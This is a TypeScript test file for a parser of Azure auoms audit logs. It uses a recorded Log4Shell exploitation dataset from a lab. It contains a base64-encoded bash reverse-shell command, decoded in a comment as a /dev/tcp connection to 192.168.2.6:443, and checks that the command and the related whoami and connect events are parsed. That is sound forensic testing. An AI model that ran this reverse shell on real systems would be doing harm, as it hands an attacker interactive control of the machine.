import { describe, expect, it } from 'vitest';
import { describeFixtures } from '../../../test/fixtures';
import { content, contextFor, parseFixture } from '../../../test/kits/audit-fixtures';
import { parseAll } from '../../../test/kits/chunk-parser';
import { createAuomsParser, scanAuomsFields } from './auoms';

const DIR = 'paired/otrf-log4shell-jndi';
const JSON_ROWS = `${DIR}/syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json`;
const LINES = `${DIR}/derived_auoms_syslogmessage_lines.log`;
const REVERSE_SHELL = '{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}';

describeFixtures('auoms: OTRF Log4Shell (Azure Log Analytics rows and plain lines)', () => {
  const rows = parseFixture(JSON_ROWS, createAuomsParser, { maxChunk: 31, randomRuns: 4 });
  const lines = parseFixture(LINES, createAuomsParser, { maxChunk: 31, randomRuns: 4 });

  it('reads all 50 events of both files, identically', () => {
    expect(rows.invalid).toEqual([]);
    expect(lines.invalid).toEqual([]);
    const events = rows.records.filter((r) => r.kind !== 'address_assigned');
    expect(events).toHaveLength(50);
    expect(events.map(content)).toEqual(lines.records.map(content));
    expect(new Set(rows.records.map((r) => r.hostName))).toEqual(new Set(['UBUNTU5']));
    expect(events.every((r) => r.kind === 'exec')).toBe(true);
  });

  it('tells the host address the Log Analytics rows carry (HostIP), once', () => {
    const told = rows.records.filter((r) => r.kind === 'address_assigned');
    expect(told).toEqual([expect.objectContaining({ hostName: 'UBUNTU5', srcIp: '192.168.2.5', lineNo: 1 })]);
    expect(lines.records.some((r) => r.kind === 'address_assigned')).toBe(false);
  });

  it('gets the reverse shell argv out of cmdline despite its unescaped inner quotes', () => {
    const shell = rows.records.find((r) => r.argv?.[2] === REVERSE_SHELL);
    expect(shell).toMatchObject({
      kind: 'exec',
      argv: ['bash', '-c', REVERSE_SHELL],
      exe: '/bin/bash',
      userName: 'tomcat',
      uid: 1001,
      pid: 17790,
      ppid: 1340,
      tsMs: 1652292621990,
      result: 'success',
      cwd: '/',
    });
    expect(shell?.auid).toBeUndefined();
    // The base64 is `bash -i >& /dev/tcp/192.168.2.6/443 0>&1`, the C2 seen on the network side.
    expect(Buffer.from('YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=', 'base64').toString()).toContain('/dev/tcp/192.168.2.6/443');
  });

  it('keeps java trying to run bash along $PATH (failed execs with the java process as exe)', () => {
    const tries = rows.records.filter((r) => r.result === 'failed' && r.exe?.endsWith('/java'));
    expect(tries.map((r) => r.paths?.[0])).toEqual(['/usr/local/sbin/bash', '/usr/local/bin/bash', '/sbin/bash', '/usr/bin/bash', '/usr/sbin/bash']);
    expect(tries.every((r) => r.argv === undefined && r.program === 'http-nio-8080-e')).toBe(true);
    expect(rows.records.some((r) => r.argv?.join(' ') === 'whoami')).toBe(true);
  });
});

describe('auoms: line format', () => {
  it('ends fields at the next name=, so unquoted text with spaces stays whole', () => {
    const line = 'type=AUOMS_EXECVE audit(1.0:1): a="x" proctitle=java -Dk=v -cp a b redactors= containerid=';
    const f = scanAuomsFields(line, line.indexOf(': ') + 2);
    expect({ ...f }).toEqual({ a: 'x', proctitle: 'java -Dk=v -cp a b', redactors: '', containerid: '' });
  });

  it('reads an AUOMS syscall with a socket address, and reports what is not auoms', () => {
    const text = [
      'type=AUOMS_SYSCALL audit(1652292622.500:9): node=h arch=x86_64 syscall=connect success=yes exit=0 pid=5 user=www-data uid=33 saddr_r=020001BBC0A80206 ses="-1"',
      'type=SYSCALL msg=audit(1652292622.500:9): arch=c000003e',
      '{"SyslogMessage":"type=AUOMS_EXECVE audit(1652292622.600:10): cmdline=\\"id\\"","Computer":"web"}',
      '{"Computer":"web"}',
    ].join('\n');
    const result = parseAll(createAuomsParser(contextFor('auoms.log')), Buffer.from(text));
    expect(result.records.map(content)).toEqual([
      {
        tsMs: 1652292622500,
        kind: 'connect',
        hostName: 'h',
        hostFrom: 'audit-node',
        pid: 5,
        userName: 'www-data',
        uid: 33,
        dstIp: '192.168.2.6',
        dstPort: 443,
        result: 'success',
      },
      { tsMs: 1652292622600, kind: 'exec', hostName: 'web', hostFrom: 'audit-node', argv: ['id'] },
    ]);
    expect(result.invalid).toEqual([
      { line: 2, reason: 'audit record without an audit(…) stamp' },
      { line: 4, reason: 'JSON row without SyslogMessage' },
    ]);
  });
});
